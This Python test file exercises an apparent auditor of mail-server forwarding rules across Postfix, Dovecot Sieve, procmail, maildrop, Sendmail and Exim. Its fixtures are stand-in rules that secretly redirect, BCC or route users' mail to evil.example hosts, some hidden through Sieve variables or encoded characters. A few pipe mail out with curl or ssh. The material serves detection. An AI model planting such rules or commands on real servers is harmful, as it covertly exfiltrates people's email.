#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""Trees made here: every kind of rule at rest, and what bites in each.

A case is its files and what is to be found in them: "place mailbox destination
mechanism", with "!" before those that are not in force; and after "unread" the
paths that could not be read.
"""
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from tree import MAIN_CF, POSTFIX, Link, Tree, Trial, place  # noqa: E402


def site(more, main="", master=""):
    """A Postfix with more files, and more of main.cf."""
    return {**POSTFIX, "/etc/postfix/main.cf": MAIN_CF + main,
            "/etc/postfix/master.cf": master, **more}


def dovecot(conf, more):
    return site({"/etc/dovecot/dovecot.conf": conf, **more},
                main="virtual_mailbox_domains = example.org\n")


USERS = """userdb {
  driver = passwd-file
  args = username_format=%u /etc/dovecot/users
}
"""
JUDY = {"/etc/dovecot/users":
        "judy@example.org:x:1000:1000::/var/vmail/judy::\n"}


def sieve(text, name="main.sieve"):
    return dovecot(USERS, {
        **JUDY, "/var/vmail/judy/sieve/" + name: text,
        "/var/vmail/judy/.dovecot.sieve": Link("sieve/" + name)})


SIEVE = "/var/vmail/judy/sieve/main.sieve"
SMTP = "smtp unix - - n - - smtp\nrelay unix - - n - - smtp\n"

CASES = [
    # -- aliases and .forward
    ("aliases: names in quotes, in capitals, continued, the first counts",
     site({"/etc/aliases":
           '"two words": a@evil.example\n'
           "Upper: b@evil.example\n"
           "list: carol,\n"
           "# a comment between\n"
           "   c@evil.example,\n\td@evil.example\n"
           "upper: second@evil.example\n"
           "owner-sent: x\nsent: e@evil.example\n"}),
     '/etc/aliases:1 "two\\x20words"@example.com a@evil.example alias\n'
     "/etc/aliases:2 upper@example.com b@evil.example alias\n"
     "/etc/aliases:3 list@example.com c@evil.example alias\n"
     "/etc/aliases:3 list@example.com d@evil.example alias\n"
     "!/etc/aliases:7 upper@example.com second@evil.example alias\n"
     "/etc/aliases:9 sent@example.com e@evil.example list\n"),
    ("aliases: a list that includes itself ends, and is told",
     site({"/etc/aliases": "all: :include:/etc/lists/all\n",
           "/etc/lists/all": ":include:/etc/lists/all\nz@evil.example\n"}),
     "/etc/lists/all:2 all@example.com z@evil.example list\n"
     "unread /etc/lists/all\n"),
    ("aliases: a list that is not there is told",
     site({"/etc/aliases": "all: :include:/etc/lists/none, in\n"}),
     "unread /etc/lists/none\n"),
    (".forward: CR LF, a byte order of its own, no end of the last line",
     site({"/home/ann/.forward": "<a@evil.example>\r\nb@evil.example"}),
     "/home/ann/.forward:1 ann@example.com a@evil.example .forward\n"
     "/home/ann/.forward:2 ann@example.com b@evil.example .forward\n"),
    (".forward: a NUL hides nothing of what follows",
     site({"/home/ann/.forward": b"ann\0 , a@evil.example\n"}),
     "/home/ann/.forward:1 ann@example.com a@evil.example .forward\n"),
    (".forward: comments, phrases and addresses that look like ours",
     site({"/home/ann/.forward":
           "# no@evil.example\n"
           "Ann (at home) <a@evil.example>, (b@evil.example) c @ evil.example\n"
           "d%evil.example%example.com@example.com, evil.example!e@localhost\n"
           "@example.com,@partner.example:f@evil.example\n"}),
     "/home/ann/.forward:2 ann@example.com a@evil.example .forward\n"
     "/home/ann/.forward:2 ann@example.com c@evil.example .forward\n"
     "/home/ann/.forward:3 ann@example.com d@evil.example .forward\n"
     "/home/ann/.forward:3 ann@example.com e@evil.example .forward\n"
     "/home/ann/.forward:4 ann@example.com f@evil.example .forward\n"),
    (".forward: in every domain of ours nothing is outside",
     site({"/home/ann/.forward": "bob@example.com, bob, ann@EXAMPLE.COM.,"
           " postmaster@localhost, /var/mail/ann\n"}), ""),
    (".forward: extensions by the delimiters there are, and no backups",
     site({"/home/ann/.forward+x": "a@evil.example",
           "/home/ann/.forward-x": "b@evil.example",
           "/home/ann/.forward.bak": "c@evil.example",
           "/home/ann/.forward~": "d@evil.example"}),
     "/home/ann/.forward+x:1 ann@example.com a@evil.example .forward\n"),
    (".forward: where forward_path has it",
     site({"/home/ann/.forward": "no@evil.example",
           "/var/forward/ann": "a@evil.example",
           "/etc/passwd": "ann:x:1000:1000:Ann:/home/ann:/bin/sh\n"},
          main="forward_path = /var/forward/$user\n"),
     "/var/forward/ann:1 ann@example.com a@evil.example .forward\n"),
    (".forward: a folder and a link are not read, and said",
     site({"/home/ann/.forward/x": "a@evil.example",
           "/home/bob/.forward": Link("/etc/aliases")}),
     "!/home/bob/.forward bob@example.com ? .forward\n"
     "unread /home/ann/.forward\n"),
    (".forward: homes by a link, and of other folders than /home",
     site({"/home/ann": Link("/export/ann"),
           "/export/ann/.forward": "a@evil.example",
           "/srv/bob/.forward": "b@evil.example",
           "/etc/passwd": "ann:x:1001:1001::/home/ann:\n"
                          "bob:x:1002:1002::/srv/bob:\n"}),
     "/home/ann/.forward:1 ann@example.com a@evil.example .forward\n"
     "/srv/bob/.forward:1 bob@example.com b@evil.example .forward\n"),
    (".forward: programs, and what is in their commands",
     site({"/home/ann/.forward":
           '"|/usr/bin/ssh host cat", |/bin/mail-x, |"/x/y a@evil.example"\n',
           "/home/bob/.forward":
           '"|IFS=\' \' && exec /usr/bin/procmail || exit 75"\n'}),
     "/home/ann/.forward:1 ann@example.com ? program\n"
     "/home/ann/.forward:1 ann@example.com a@evil.example program\n"
     "/home/bob/.forward:1 bob@example.com ? program\n"),
    (".forward: one that waits for a delimiter, and root's without passwd(5)",
     {**POSTFIX, "/etc/postfix/main.cf":
      MAIN_CF.replace("recipient_delimiter = +\n", ""),
      "/home/ann/.forward+x": "a@evil.example",
      "/root/.forward": "r@evil.example"},
     "!/home/ann/.forward+x:1 ann@example.com a@evil.example .forward\n"
     "/root/.forward:1 root@example.com r@evil.example .forward\n"),
    # -- maps of Postfix
    ("maps: of all types that a file holds",
     site({"/etc/postfix/v": "# c\nsales@example.com  a@evil.example,\n"
                             "   b@evil.example\n@brand.example c@evil.example"
                             "\nbrand.example x\n",
           "/etc/postfix/re": "if /x/\n/^(.*)@old\\.example$/i $1@evil.example"
                              "\nendif\n!/example/ d@evil.example\n",
           "/etc/postfix/n": "u@example.com e@evil.example\n"},
          main="virtual_alias_domains = brand.example\n"
               "virtual_alias_maps = hash:$config_directory/v,\n"
               "  proxy:pcre:/etc/postfix/re unionmap:{texthash:/etc/postfix/n,"
               " inline:{ {w@example.com = f@evil.example} }}\n"),
     "/etc/postfix/v:2 sales@example.com a@evil.example virtual\n"
     "/etc/postfix/v:2 sales@example.com b@evil.example virtual\n"
     "/etc/postfix/v:4 @brand.example c@evil.example virtual\n"
     "/etc/postfix/re:2 /^(.*)@old\\.example$/i $1@evil.example virtual\n"
     "/etc/postfix/re:4 !/example/ d@evil.example virtual\n"
     "/etc/postfix/n:1 u@example.com e@evil.example virtual\n"
     "/etc/postfix/main.cf:8 w@example.com f@evil.example virtual\n"),
    ("maps: a table that can only be asked is told, in a copy",
     site({}, main="virtual_alias_maps = proxy:mysql:/etc/postfix/sql.cf\n"
                   "recipient_bcc_maps = ldap:ldapbcc\n"),
     "unread mysql:/etc/postfix/sql.cf\nunread ldap:ldapbcc\n"),
    ("maps: one that is not there is told",
     site({}, main="virtual_alias_maps = hash:/etc/postfix/none\n"),
     "unread /etc/postfix/none\n"),
    ("maps: bcc, canonical, and those of one service",
     site({"/etc/postfix/r": "ann@example.com a@evil.example\n",
           "/etc/postfix/s": "example.com b@evil.example\n",
           "/etc/postfix/c": "old@example.com c@evil.example\n",
           "/etc/postfix/own": "bob@example.com d@evil.example\n"},
          main="recipient_bcc_maps = hash:/etc/postfix/r\n"
               "sender_bcc_maps = hash:/etc/postfix/s\n"
               "canonical_maps = hash:/etc/postfix/c\n"
               "always_bcc = all@evil.example\n",
          master="cleanup2 unix n - n - 0 cleanup\n"
                 "  -o virtual_alias_maps=hash:/etc/postfix/own\n"),
     "/etc/postfix/own:1 bob@example.com d@evil.example virtual\n"
     "/etc/postfix/r:1 ann@example.com a@evil.example recipient_bcc\n"
     "/etc/postfix/s:1 @example.com b@evil.example sender_bcc\n"
     "/etc/postfix/c:1 old@example.com c@evil.example canonical\n"
     "/etc/postfix/main.cf:10 * all@evil.example always_bcc\n"),
    ("maps: transports of ours to hosts that are not",
     site({"/etc/postfix/t":
           "example.com smtp:[203.0.113.9]\n"
           "ann@example.com smtp:[mx.evil.example]:25\n"
           "bob@example.com smtp:[10.1.2.3]\n"
           "eve@example.com relay:exchange.example.com\n"
           "partner.example smtp:[203.0.113.9]\n"
           "* smtp:[relay.isp.example]\n"
           "gone@example.com error:gone\n",
           "/etc/postfix/d": "ann@example.com [mx.evil.example]:587\n"},
          main="transport_maps = hash:/etc/postfix/t\n"
               "sender_dependent_relayhost_maps = hash:/etc/postfix/d\n",
          master=SMTP),
     "/etc/postfix/t:1 @example.com smtp:[203.0.113.9] transport\n"
     "/etc/postfix/t:2 ann@example.com smtp:[mx.evil.example]:25 transport\n"
     "/etc/postfix/d:1 ann@example.com [mx.evil.example]:587 relayhost\n"),
    ("parameters: luser_relay, mailbox_command, a pipe of master.cf",
     site({}, main="luser_relay = $user@evil.example\n"
                   "mailbox_command = /usr/local/bin/sort-mail\n"
                   "mailbox_transport = sorter\n",
          master="sorter unix - n n - - pipe\n"
                 "  flags=R user=mail argv=/usr/bin/curl -T - "
                 "ftp://x.example b@evil.example\n"),
     "/etc/postfix/main.cf:7 @example.com $user@evil.example luser_relay\n"
     "/etc/postfix/main.cf:8 * ? delivery_program\n"
     "/etc/postfix/main.cf:9 * b@evil.example delivery_program\n"),
    ("checks: REDIRECT and BCC, and those of access tables",
     site({"/etc/postfix/h": "/^Subject: pay/ REDIRECT a@evil.example\n"
                             "/^Subject:/ WARN\n/x/ BCC b@evil.example\n",
           "/etc/postfix/acc": "ann@example.com REDIRECT c@evil.example\n"},
          main="header_checks = regexp:/etc/postfix/h\n"
               "smtpd_recipient_restrictions = permit_mynetworks,\n"
               "  check_recipient_access hash:/etc/postfix/acc, reject\n"),
     "/etc/postfix/h:1 * a@evil.example content_check\n"
     "/etc/postfix/h:3 * b@evil.example content_check\n"
     "/etc/postfix/acc:1 * c@evil.example access_table\n"),
    # -- Sieve
    ("Sieve: comments, strings and text: hide nothing and show nothing",
     sieve('require ["copy","mailbox"];\n'
           '/* redirect "no1@evil.example"; */ # redirect "no2@evil.example";\n'
           'if header :is "subject" "redirect \\"no3@evil.example\\";" '
           '{ keep; }\n'
           'redirect # to\n text: # really\na@evil.example\n.\n;\n'
           'redirect/**/:copy/**/"b@evil.example";\n'
           'REDIRECT "c@evil.example";\n'
           'set "x" text:\nredirect "no4@evil.example";\n.\n;\n'),
     f"{SIEVE}:4 judy@example.org a@evil.example sieve\n"
     f"{SIEVE}:9 judy@example.org b@evil.example sieve\n"
     f"{SIEVE}:10 judy@example.org c@evil.example sieve\n"),
    ("Sieve: variables that are constants, in several steps and cases",
     sieve('require ["variables"];\nset "a" "evil"; set "b" "${a}.example";\n'
           'set :lower "c" "DROP";\nredirect "${c}@${B}";\n'
           'if true { set "d" "one"; } else { set "d" "two"; }\n'
           'redirect "${d}@evil.example";\nredirect "${never}@evil.example";\n'
           'set "a" "other"; redirect "x@${b}";\n'),
     f"{SIEVE}:4 judy@example.org drop@evil.example sieve\n"
     f"{SIEVE}:6 judy@example.org one@evil.example sieve\n"
     f"{SIEVE}:6 judy@example.org two@evil.example sieve\n"
     f"{SIEVE}:7 judy@example.org ? sieve\n"
     f"{SIEVE}:8 judy@example.org x@evil.example sieve\n"),
    ("Sieve: encoded characters hide no address",
     sieve('require "encoded-character";\n'
           'redirect "a${hex:40 65}vil.example";\n'
           'redirect "b${unicode:40}evil.example";\n'),
     f"{SIEVE}:2 judy@example.org a@evil.example sieve\n"
     f"{SIEVE}:3 judy@example.org b@evil.example sieve\n"),
    ("Sieve: notify of both kinds, report, pipe and execute",
     sieve('notify :message "x" "mailto:a@evil.example,b%40evil.example'
           '?to=c@evil.example&subject=d@evil.example";\n'
           'notify :method "mailto" :options ["e@evil.example"] '
           ':message "x";\n'
           'report "abuse" "text" "f@evil.example";\n'
           'pipe :args ["-t", "g@evil.example"] "send";\n'
           'if execute :pipe "check" { keep; }\n'
           'vacation :from "h@evil.example" "i@evil.example";\n'),
     f"{SIEVE}:1 judy@example.org a@evil.example sieve_notify\n"
     f"{SIEVE}:1 judy@example.org b@evil.example sieve_notify\n"
     f"{SIEVE}:1 judy@example.org c@evil.example sieve_notify\n"
     f"{SIEVE}:2 judy@example.org e@evil.example sieve_notify\n"
     f"{SIEVE}:3 judy@example.org f@evil.example sieve_report\n"
     f"{SIEVE}:4 judy@example.org g@evil.example sieve_pipe\n"
     f"{SIEVE}:5 judy@example.org ? sieve_pipe\n"),
    ("Sieve: includes, and one that includes itself",
     {**sieve('require "include";\ninclude :personal "other";\n'
              'include :global "all";\ninclude "main";\n'),
      "/etc/dovecot/dovecot.conf":
      USERS + "plugin {\n  sieve_global_dir = /etc/sieve/\n}\n",
      "/var/vmail/judy/sieve/other.sieve": 'redirect "a@evil.example";',
      "/etc/sieve/all.sieve": 'redirect "b@evil.example";'},
     "/var/vmail/judy/sieve/other.sieve:1 judy@example.org a@evil.example "
     "sieve\n/etc/sieve/all.sieve:1 judy@example.org b@evil.example sieve\n"
     f"unread {SIEVE}\n"),
    ("Sieve: Dovecot 2.4's places, and homes by a pattern",
     dovecot("mail_home = /var/vmail/%{user | domain}/%{user | username}\n"
             "sieve_script personal {\n  path = ~/scripts\n"
             "  active_path = ~/.active.sieve\n}\n"
             "sieve_script first {\n  type = before\n"
             "  path = /etc/sieve/first.sieve\n}\n",
             {"/var/vmail/example.org/ken/scripts/a.sieve":
              'redirect "a@evil.example";',
              "/var/vmail/example.org/ken/scripts/b.sieve":
              'redirect "b@evil.example";',
              "/var/vmail/example.org/ken/.active.sieve":
              Link("scripts/a.sieve"),
              "/etc/sieve/first.sieve": 'redirect :copy "c@evil.example";'}),
     "/var/vmail/example.org/ken/scripts/a.sieve:1 ken@example.org "
     "a@evil.example sieve\n"
     "!/var/vmail/example.org/ken/scripts/b.sieve:1 ken@example.org "
     "b@evil.example sieve\n"
     "/etc/sieve/first.sieve:1 * c@evil.example sieve\n"),
    ("Sieve: the places of 2.3: before, after, a file of its own, system users",
     dovecot("!include conf.d/*.conf\n",
             {"/etc/dovecot/conf.d/90.conf":
              "plugin {\n  sieve = ~/.dovecot.sieve\n  sieve_dir = ~/s\n"
              "  sieve_before2 = /etc/sieve/b\n  sieve_after = /etc/sieve/a"
              ".sieve\n  imapsieve_mailbox1_before = file:/etc/sieve/i.sieve\n"
              "}\n",
              "/etc/sieve/b/x.sieve": 'redirect "b@evil.example";',
              "/etc/sieve/a.sieve": 'redirect "a@evil.example";',
              "/etc/sieve/i.sieve": 'redirect "i@evil.example";',
              "/home/ann/.dovecot.sieve": 'redirect "ann@evil.example";',
              "/home/ann/s/old.sieve": 'redirect "old@evil.example";'}),
     "/etc/sieve/b/x.sieve:1 * b@evil.example sieve\n"
     "/etc/sieve/a.sieve:1 * a@evil.example sieve\n"
     "/etc/sieve/i.sieve:1 * i@evil.example sieve\n"
     "/home/ann/.dovecot.sieve:1 ann@example.com ann@evil.example sieve\n"
     "!/home/ann/s/old.sieve:1 ann@example.com old@evil.example sieve\n"),
    ("Sieve: storage and users that are no files are told",
     dovecot("plugin {\n  sieve = ldap:/etc/dovecot/sieve-ldap.conf\n}\n"
             "userdb {\n  driver = sql\n}\n", {}),
     "unread ldap:/etc/dovecot/sieve-ldap.conf\n"
     "unread Dovecot's users (sql)\n"),
    # -- procmail, maildrop
    ("procmail: variables, blocks, includes, filters",
     site({"/home/ann/.forward": '"|/usr/bin/procmail"\n',
           "/home/ann/.procmailrc":
           "D=evil.example\nTO=\"a@$D\"\n:0 c:\n* ^Subject: pay\n! -f me $TO\n"
           ":0\n* ! ^X-Loop\n{\n  :0 c\n  ! b@${D}\n}\n"
           ":0 fw\n| spamc\n:0 c\n| sendmail -oi c@evil.example\n"
           ":0\n! `cat /x`\nINCLUDERC=$HOME/more.rc\n# ! no@evil.example\n",
           "/home/ann/more.rc": ":0\n! d@evil.example \\\n  e@evil.example\n"}),
     "/home/ann/.forward:1 ann@example.com ? program\n"
     "/home/ann/.procmailrc:5 ann@example.com a@evil.example procmail\n"
     "/home/ann/.procmailrc:10 ann@example.com b@evil.example procmail\n"
     "/home/ann/.procmailrc:15 ann@example.com c@evil.example procmail\n"
     "/home/ann/.procmailrc:17 ann@example.com ? procmail\n"
     "/home/ann/more.rc:2 ann@example.com d@evil.example procmail\n"
     "/home/ann/more.rc:2 ann@example.com e@evil.example procmail\n"),
    ("procmail: not in force where nothing runs it",
     site({"/home/ann/.procmailrc": ":0\n! a@evil.example\n"}),
     "!/home/ann/.procmailrc:2 ann@example.com a@evil.example procmail\n"),
    ("maildrop: cc, to, xfilter, conditions, variables",
     site({"/home/ann/.mailfilter":
           'D="evil.example"\nif (/^Subject: pay/)\n{\n  cc "!a@$D"\n}\n'
           'xfilter "/usr/bin/curl -T - b@evil.example"\n'
           '# cc "!no@evil.example"\ninclude "$HOME/more"\n'
           'to "! c@evil.example d@evil.example"\n',
           "/home/ann/more": 'cc "|/usr/sbin/sendmail e@evil.example"\n'},
          main="mailbox_command = /usr/bin/maildrop\n"),
     "/home/ann/.mailfilter:4 ann@example.com a@evil.example maildrop\n"
     "/home/ann/.mailfilter:6 ann@example.com b@evil.example maildrop\n"
     "/home/ann/more:1 ann@example.com e@evil.example maildrop\n"
     "/home/ann/.mailfilter:9 ann@example.com c@evil.example maildrop\n"
     "/home/ann/.mailfilter:9 ann@example.com d@evil.example maildrop\n"),
    ("procmail, maildrop: the site's own",
     site({"/etc/procmailrc": ":0 c\n! a@evil.example\n",
           "/etc/courier/maildroprc": 'cc "!b@evil.example"\n'}),
     "/etc/procmailrc:2 * a@evil.example procmail\n"
     "/etc/courier/maildroprc:1 * b@evil.example maildrop\n"),
    # -- other MTAs
    ("FreeBSD's places",
     {"/usr/local/etc/postfix/main.cf": MAIN_CF,
      "/usr/local/etc/postfix/master.cf": "",
      "/etc/aliases": Link("mail/aliases"),
      "/etc/mail/aliases": "ann: a@evil.example\n",
      "/usr/local/etc/dovecot/dovecot.conf": "!include_try conf.d/*.conf\n",
      "/usr/local/etc/dovecot/conf.d/s.conf":
      "plugin {\n  sieve = ~/x.sieve\n}\n",
      "/usr/home/bob/x.sieve": 'redirect "b@evil.example";'},
     "/etc/aliases:1 ann@example.com a@evil.example alias\n"
     "/usr/home/bob/x.sieve:1 bob@example.com b@evil.example sieve\n"),
    ("Sendmail: its domains, by the .cf of a copy",
     {"/etc/mail/sendmail.cf": "Cwlocalhost example.org\nFw-o /etc/names\n"
      "C{VirtHost}example.net\nDjmx.example.com\n",
      "/etc/names": "example.com\n",
      "/etc/mail/aliases": "ann: b@example.net, c@example.com,"
                           " d@example.org, e@evil.example\n"},
     "/etc/mail/aliases:1 ann@example.com e@evil.example alias\n"),
    ("Exim: Debian's macros",
     {"/etc/exim4/exim4.conf":
      "MAIN_LOCAL_DOMAINS = @:localhost:example.com\n"
      "domainlist local_domains = MAIN_LOCAL_DOMAINS\n"
      "qualify_domain = example.com\nbegin routers\n"
      "a:\n  driver = redirect\n"
      "  data = ${lookup{$local_part}lsearch{/etc/aliases}}\n",
      "/etc/aliases": "ann: bob@example.com, a@evil.example\n"},
     "/etc/aliases:1 ann@example.com a@evil.example alias\n"),
    ("Sendmail: its tables, by the .cf's own names",
     {"/etc/mail/sendmail.cf":
      "O AliasFile=/etc/mail/names\n"
      "Kvirtuser hash -o /etc/mail/vut\n",
      "/etc/mail/local-host-names": "example.com\n# c\nexample.org\n",
      "/etc/mail/names": "ann: |/bin/prog a@evil.example, b@evil.example\n"
                         "bob:\terror:nouser\n",
      "/etc/mail/vut": "@example.org\t%1@evil.example\n"
                       "x@example.org\terror:5.7.0:550 no@evil.example\n",
      "/etc/mail/mailertable": "example.org\tesmtp:[203.0.113.9]\n"
                               "other.example\tesmtp:[203.0.113.9]\n",
      "/home/ann/.forward": "c@evil.example\n"},
     "/etc/mail/names:1 ann@example.com a@evil.example program\n"
     "/etc/mail/names:1 ann@example.com b@evil.example alias\n"
     "/etc/mail/vut:1 @example.org %1@evil.example virtual\n"
     "/etc/mail/mailertable:1 @example.org esmtp:[203.0.113.9] transport\n"
     "/home/ann/.forward:1 ann@example.com c@evil.example .forward\n"),
    ("Exim: Debian's pieces, files that are included, routes by hand",
     {"/etc/exim4/update-exim4.conf.conf": "dc_use_split_config='true'\n",
      "/etc/exim4/exim4.conf.template": "qualify_domain = wrong.example\n",
      "/etc/exim4/conf.d/main/01_x": "qualify_domain = example.com\n"
      "domainlist local_domains = @ : example.com : example.org\n"
      "domainlist relay_to_domains = MAIN_RELAY\n",
      "/etc/exim4/conf.d/main/00_x": "MAIN_RELAY = example.net : example.edu\n",
      "/etc/exim4/conf.d/main/02_x.dpkg-dist": "qualify_domain = no.example\n",
      "/etc/exim4/conf.d/router/00_header": "begin routers\n",
      "/etc/exim4/conf.d/router/10_a":
      "smart:\n  driver = manualroute\n  domains = ! +local_domains\n"
      "  route_list = * smart.evil.example byname\n"
      "all:\n  driver = manualroute\n  domains = +relay_to_domains\n"
      "  route_list = \"example.net mx.evil.example byname; "
      "* 192.168.0.9; example.edu 'mx.evil.example:mx2'\"\n"
      "one:\n  driver = manualroute\n  domains = example.org\n"
      "  local_parts = ann\n  unseen\n  route_data = 203.0.113.9\n"
      "what:\n  driver = manualroute\n  domains = example.org\n"
      "  route_data = ${lookup mysql{x}}\n"
      "run:\n  driver = queryprogram\n  command = /bin/x\n"
      ".include_if_exists /etc/exim4/absent\n.include /etc/exim4/more\n",
      "/etc/exim4/more": "two:\n  driver = redirect\n  local_parts = bob\n"
                         "  data = b@evil.example\n"},
     "/etc/exim4/conf.d @example.net mx.evil.example transport\n"
     "/etc/exim4/conf.d @example.edu mx.evil.example:mx2 transport\n"
     "/etc/exim4/conf.d ann@example.org 203.0.113.9 transport\n"
     "/etc/exim4/conf.d bob@example.com b@evil.example router\n"
     "unread /etc/exim4/conf.d\n"
     "unread /etc/exim4/conf.d\n"),
    ("Exim: routers, lookups, filters, and what only it can tell",
     {"/etc/exim4/exim4.conf":
      "qualify_domain = example.com\n"
      "domainlist local_domains = @ : example.com : lsearch;/etc/exim4/doms\n"
      "system_filter = /etc/exim4/system\n"
      "begin routers\n"
      "one:\n  driver = redirect\n  local_parts = ann : bob\n"
      "  data = a@evil.example, \\\n    b@evil.example\n  unseen = true\n"
      "two:\n  driver = redirect\n  data = ${lookup{$local_part}lsearch{"
      "/etc/aliases}}\n"
      "three:\n  driver = redirect\n"
      "  data = ${lookup mysql{select x from y}}\n"
      "user:\n  driver = redirect\n  file = $home/.forward\n"
      "begin transports\n",
      "/etc/exim4/doms": "example.net\n",
      "/etc/exim4/system": "# Exim filter\nunseen mail to c@evil.example "
                           "subject no@evil.example\n",
      "/etc/aliases": "eve: d@evil.example, eve@example.net\n",
      "/home/ann/.forward": "# Exim filter\nif $h_to: is \"x\" then\n"
                            "deliver e@evil.example\nelse unseen pipe "
                            "\"/bin/x f@evil.example\"\nendif\n"},
     "/etc/exim4/exim4.conf ann@example.com a@evil.example router\n"
     "/etc/exim4/exim4.conf ann@example.com b@evil.example router\n"
     "/etc/exim4/exim4.conf bob@example.com a@evil.example router\n"
     "/etc/exim4/exim4.conf bob@example.com b@evil.example router\n"
     "/etc/aliases:1 eve@example.com d@evil.example alias\n"
     "/etc/exim4/system:2 * c@evil.example Exim_filter\n"
     "/home/ann/.forward:3 ann@example.com e@evil.example Exim_filter\n"
     "/home/ann/.forward:4 ann@example.com f@evil.example Exim_filter\n"
     "unread /etc/exim4/exim4.conf\n"),
    ("panels: cPanel's and DirectAdmin's files",
     {**POSTFIX,
      "/etc/valiases/shop.example": "sales@shop.example: a@evil.example\n"
                                    "*: :fail: no such user\n",
      "/etc/virtual/club.example/aliases": "team: b@evil.example, c\n"},
     "/etc/valiases/shop.example:1 sales@shop.example a@evil.example virtual\n"
     "/etc/virtual/club.example/aliases:1 team@club.example b@evil.example "
     "virtual\n"),
    ("no mail server at all: what there is, and that is told",
     {"/etc/aliases": "ann: a@evil.example\n"},
     "/etc/aliases:1 ann@localhost a@evil.example alias\nunread /\n"),
]


def describe(rules, unread):
    lines = []
    for rule in rules:
        words = [place(rule), rule["mailbox"], rule["destination"],
                 rule["mechanism"]]
        mark = "" if rule["state"] == "active" else "!"
        words[1] = words[1].replace(" ", "\\x20")
        words[3] = words[3].replace(" ", "_")
        lines.append(mark + " ".join(words))
    lines += ["unread " + one["path"] for one in unread]
    return lines


def main():
    trial = Trial()
    for name, files, wanted in CASES:
        with Tree(files) as tree:
            found = describe(*tree.audit())
        want = wanted.splitlines()
        trial.result(
            sorted(found) == sorted(want), name,
            "\n".join([f"missed {one}" for one in want if one not in found] +
                      [f"false  {one}" for one in found if one not in want] +
                      ["found: " + one for one in found]))
    return trial.end()


if __name__ == "__main__":
    sys.exit(main())
